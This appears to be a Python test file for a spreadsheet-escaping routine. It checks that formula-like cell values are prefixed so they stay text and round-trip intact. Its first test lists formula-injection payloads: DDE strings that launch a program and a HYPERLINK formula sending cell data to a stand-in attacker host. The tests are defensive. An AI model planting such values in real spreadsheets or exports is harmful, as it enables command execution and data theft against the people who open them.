"""Checks that a spreadsheet does not compute texts, and that they come back as they were."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trainables.data.spreadsheet import as_text, written


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)', "\t=1+1", "\r=1+1", "＝1+1", "－A1", "-(1)", "- total", "'=1+1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["12가3456", "-5.20", "+82-10-1234-5678", "=", "-", "@", "", "a=b", "'twas", "''", "%"]
)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text == written(text)


@pytest.mark.parametrize(
    "text",
    ["0012", "1.50", "₩1,200", "1-2", "3/4", "12:30", "1E5", "+82-10-1234-5678", "3월 4일", "TRUE", "123456789012345"],
)
def test_what_a_spreadsheet_would_show_in_another_way_stays_a_text_for_it(text: str) -> None:
    assert as_text(text, excel=True) == f"'{text}" and written(f"'{text}") == text == as_text(text)


@pytest.mark.parametrize("text", ["12가3456", "서울", "a1", "-", "", "E", "월", "TOTAL 5.20"])
def test_what_it_shows_as_it_is_stays_bare(text: str) -> None:
    assert as_text(text, excel=True) == text


@given(st.text(st.sampled_from("'=+-@＝\t\ra1e.월(|! ")) | st.text())
def test_what_is_read_is_what_was_written(text: str) -> None:
    assert written(as_text(text)) == text == written(as_text(text, excel=True))
